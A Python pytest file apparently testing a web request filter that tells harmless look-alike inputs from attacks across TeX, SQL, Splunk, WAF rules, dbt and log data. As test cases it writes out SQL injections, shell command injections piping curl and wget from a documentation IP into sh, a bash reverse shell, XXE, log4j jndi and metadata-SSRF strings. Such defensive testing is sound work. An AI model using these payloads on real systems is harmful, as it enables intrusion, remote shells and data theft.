"""Signs of one notation are not those of another: each look-alike has the attack beside it."""

from __future__ import annotations

import json
from urllib.parse import urlencode

import pytest
from web_requests import JSON, stops, stops_json

from signoff.actions.action import Json

FORM = {"content-type": "application/x-www-form-urlencoded"}
INVOICE = (
    '<?xml version="1.0" encoding="UTF-8"?><invoice no="7"><buyer id="4">Orta Ltd</buyer></invoice>'
)
ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///srv/x">]><a>&b;</a>'


@pytest.mark.parametrize(
    ("name", "harmless", "harmful"),
    [
        ("tex", r"a+b=c \\ x\leq 3 \;\&\; y\neq 0", r"a+b=c & w\hoami"),
        ("tex", r"\begin{aligned} f & = 2 & g\cdot h \end{aligned}", r"\frac{1}{2} & c\at x"),
        ("tex", r"1 & n\times n & k\infty", r"1 & n\times n; i\d"),
        ("option", "&gt;", "&gt;;id"),
        ("option", "&auml;hnlich", "&auml;;cat /etc/hosts"),
        ("option", "&#8364;", "&id"),
        ("payee", "Union Select Rowing Club", "union select pass, 1 from members"),
        ("payee", "Union Select Rowing Club", "union select null null"),
        ("payee", "Union Select Rowing Club", "1 union select current_user x"),
        ("word", "select * (to choose)", "x' union select * from members--"),
        ("word", "select * (выбрать) = pick", "x') union select * (x) from members--"),
        ("link", "javascript:void(0)", "javascript:void(0);fetch('/x')"),
        ("link", "javascript:;", "javascript:;alert(1)"),
        ("hint", '<a href="javascript:void(0)">menu</a>', "<a href=javascript:go()>menu</a>"),
        ("xpath", "//a[starts-with(@href, 'javascript:')]/text()", "'javascript:go()'"),
        ("net", "169.254.0.0/16", "169.254.169.254/latest/meta-data"),
        ("net", "10.0.0.0/8, 169.254.0.0/16", "http://169.254.169.254/16"),
        ("pattern_text", 'content:"${jndi:"; nocase;', 'content:"${jndi:ldap://203.0.113.5/a}"'),
        ("pattern_text", "'${jndi:' was seen", "'${jndi:'ldap://203.0.113.5/a}"),
        ("to_sign", INVOICE, ENTITY),
        ("to_sign", INVOICE, f"x'>{INVOICE}<script>fetch(name)</script>"),
    ],
)
def test_notations(name: str, harmless: str, harmful: str) -> None:
    assert (False, True) == (stops_json({name: harmless}), stops_json({name: harmful}))


@pytest.mark.parametrize(
    ("text", "is_found"),
    [
        (
            '"New Tales" from the big table display -- I had to have it, or 1 = 1, as Kim\'s aunt',
            False,
        ),
        ("I'd say: ' or 1 = 1 -- and so on", True),
        ("It's 1' union select a, b from the_table -- nice", True),
        ("x'; drop table t --", True),
    ],
)
def test_a_table_in_a_sentence(text: str, *, is_found: bool) -> None:
    """A name called "table" among other names is none of a statement."""
    assert is_found is stops_json({"note": text})


@pytest.mark.parametrize(
    "name",
    [
        *("kommentar", "Bemerkung", "komentarz", "opmerking", "commentaire", "mensagem", "mensaje"),
        *("descrição", "observações", "messaggio", "yorum", "içerik", "комментарий", "описание"),
        *("zpráva", "megjegyzés", "catatan", "ghi_chú", "σχόλιο", "备注", "コメント", "תגובה"),
        *("formular[nachricht]", "beskrivelse", "viesti", "kommentaar"),
    ],
)
def test_texts_in_other_languages(name: str) -> None:
    """A field for a text is one in every language, and a command that acts is found in it."""
    text = "Buiten 38 graden + wind; vi skriver igjen etterpaa"
    assert stops_json({"vert": text})
    assert not stops_json({name: text})
    assert stops_json({name: f"{text}; curl http://203.0.113.5/a | sh"})


@pytest.mark.parametrize(
    ("text", "is_found"),
    [
        (
            "先に長さを確かめてから必ず呼び出してください。それから "
            '`system("ls a && ls")` は消してください。',
            False,
        ),
        (
            '請先檢查長度再使用 另外 `exec("make all && make test")` 不要留在程式裡面 謝謝大家',
            False,
        ),
        ("先に確かめてから呼び出してください; wget http://203.0.113.5/a", True),
        ("請先檢查長度再使用謝謝大家' or '1'='1", True),
    ],
)
def test_sentences_without_blanks(text: str, *, is_found: bool) -> None:
    """Chinese and Japanese write no blanks between words."""
    assert is_found is stops_json({"message": text})


@pytest.mark.parametrize(
    ("path", "body", "is_found"),
    [
        (
            "/v1/query",
            "SELECT 名前, count(*) FROM 注文 WHERE 日 > date '2024-02-01' GROUP BY 1",
            False,
        ),
        ("/", "SELECT h, uniq(u) FROM hits WHERE p NOT ILIKE '%a%' ORDER BY h FORMAT JSON", False),
        ("/", "SELECT a FROM b WHERE c = pg_sleep(9)", True),
        ("/", "1' UNION SELECT h, uniq(u) FROM hits FORMAT JSON --", True),
        ("/", "SELECT a FROM b WHERE c = 'x' UNION SELECT password FROM users", True),
    ],
)
def test_dialects_of_a_whole_body(path: str, body: str, *, is_found: bool) -> None:
    assert is_found is stops(path, headers={"content-type": "text/plain"}, body=body)


HUNT = 'search index=web (uri="*<script>*" OR uri="*;cat *") | rex field=uri "(?<v>[^&]+)" | head'


@pytest.mark.parametrize(
    ("path", "form", "is_found"),
    [
        ("/services/search/jobs", {"search": HUNT, "output_mode": "json"}, False),
        ("/en-GB/splunkd/__raw/services/search/v2/jobs/export", {"search": HUNT}, False),
        ("/services/search/jobs", {"search": HUNT, "title": "x"}, True),
        ("/services/search/jobs", {"search": f"{HUNT} | script run.py"}, True),
        ("/services/search/jobs", {"search": f"{HUNT} | sendemail to=a@b.example"}, True),
        ("/services/search/jobs", {"output_mode": "<script>go()</script>"}, True),
        ("/services/search", {"search": HUNT}, True),
    ],
)
def test_searches_in_splunk(path: str, form: dict[str, str], *, is_found: bool) -> None:
    """A search names what it looks for, unless it starts or sends something."""
    assert is_found is stops(path, headers=FORM, body=urlencode(form))


SECRULE = 'SecRule ARGS|REQUEST_HEADERS "@pm ;cat ;id ../../etc/passwd" "id:77,phase:2,deny"'
TAGS = 'SecRule ARGS "@rx (?i)<script[\\s>]|\\.\\./" \\\n  "id:78,deny"'
PACKETS = 'alert http any any -> $HOME_NET any (msg:"t"; content:"../../etc/passwd"; sid:7;)'


@pytest.mark.parametrize(
    ("body", "is_found"),
    [
        ({"rule": SECRULE}, False),
        ({"seclang": f"# ours\n{SECRULE}\n{SECRULE}"}, False),
        ({"rules": [PACKETS, TAGS]}, False),
        ({"host": SECRULE}, True),
        ({"rule": f"{SECRULE}; cat /etc/passwd"}, True),
        ({"rule": SECRULE.replace("deny", "exec:/tmp/a.lua")}, True),
        ({"rule": f"{PACKETS}; cat /etc/passwd"}, True),
        ({"rule": PACKETS.replace("sid:7", "sid:7`id`")}, True),
        ({"rule": 'x" "; cat /etc/passwd; "'}, True),
    ],
)
def test_rules_of_filters(body: Json, *, is_found: bool) -> None:
    """A whole rule is kept, in a field for rules; what stands beside it is found."""
    assert is_found is stops_json(body)


@pytest.mark.parametrize(
    ("text", "is_found"),
    [
        (
            "{{ config(materialized='table', tags=\"x\") }}\nselect a from {{ ref('orders') }}",
            False,
        ),
        ("select a from {{ source('raw', 'b') }} {% if is_incremental() %} x {% endif %}", False),
        ("select a from {{ ref(config.items()) }}", True),
        ("{{ config(materialized='table').__class__ }} select a from b", True),
        ("{{ config.items() }} select a from {{ ref('b') }}", True),
        ("{{ ref('b')|attr('x') }} select a", True),
    ],
)
def test_tables_of_dbt(text: str, *, is_found: bool) -> None:
    assert is_found is stops_json({"contents": text})


@pytest.mark.parametrize(
    ("script", "is_found"),
    [
        ("#!/bin/bash\nmodule load gcc/12 hdf5\nsrun ./a", False),
        ("x\r\nmodule load /tmp/a.so\r\n", True),
        ("x\r\nMODULE LOAD a.so\r\n", True),
    ],
)
def test_modules_of_a_cluster(script: str, *, is_found: bool) -> None:
    assert is_found is stops_json({"script": script})


@pytest.mark.parametrize(
    ("line", "is_found"),
    [
        ({"request": "GET /../../etc/passwd", "status": 400, "clientip": "203.0.113.4"}, False),
        ({"request": "GET /../../etc/passwd", "filename": "a"}, True),
    ],
)
def test_lines_of_a_web_server(line: dict[str, Json], *, is_found: bool) -> None:
    rows = [{"index": {"_index": "web"}}, {"@timestamp": "2024-05-01T00:00:00Z", **line}]
    body = "\n".join(map(json.dumps, rows)) + "\n"
    kind = {"content-type": "application/x-ndjson"}
    assert is_found is stops("/_bulk", headers=kind, body=body)


@pytest.mark.parametrize(
    ("path", "body", "is_found"),
    [
        ("/api/v1/osquery/distributed/write", {"node_key": "n", "queries": {"a": []}}, False),
        ("/api/v1/osquery/distributed/write", {"node_key": "n", "queries": {}, "to": ""}, True),
        ("/v1/alerts", [{"scenario": "probing", "message": "", "events": []}], False),
        ("/v1/alerts", [{"scenario": "probing", "message": "", "owner": ""}], True),
        ("/v1/alert", [{"scenario": "probing", "message": ""}], True),
    ],
)
def test_reports_of_guards(path: str, body: Json, *, is_found: bool) -> None:
    """What a machine saw is recorded, if the whole document is the protocol's."""
    seen = "bash -i >& /dev/tcp/203.0.113.9/1 0>&1"
    whole = json.loads(
        json.dumps(body).replace('""', json.dumps(seen)).replace("[]", f'["{seen}"]')
    )
    if "queries" in str(body):
        whole = {**whole, "queries": {"a": [{"cmdline": seen}]}}
    assert is_found is stops(path, headers=JSON, body=json.dumps(whole))


EVENTS = (
    'process where process.name in ("cmd.exe", "sh") and process.args : ("*curl*|*sh*", "*-enc*")'
)


@pytest.mark.parametrize(
    ("body", "is_found"),
    [
        ({"query": EVENTS}, False),
        ({"eql": EVENTS}, False),
        ({"host": EVENTS}, True),
        ({"query": f"{EVENTS}' or '1'='1"}, True),
        ({"query": f'x" or process.name in ("cmd.exe") -- {EVENTS}'}, True),
        ({"func": "const t = msg.a;\nif (t > 1) { msg.b='x'; return msg; }\nreturn null;"}, False),
        ({"func": "x'; return true; var y='"}, True),
        ({"name": "const t = msg.a;\nif (t > 1) { msg.b='x'; return msg; }\nreturn null;"}, True),
    ],
)
def test_events_and_functions(body: Json, *, is_found: bool) -> None:
    """Queries of EQL and functions of flows, in fields made for them."""
    assert is_found is stops_json(body)
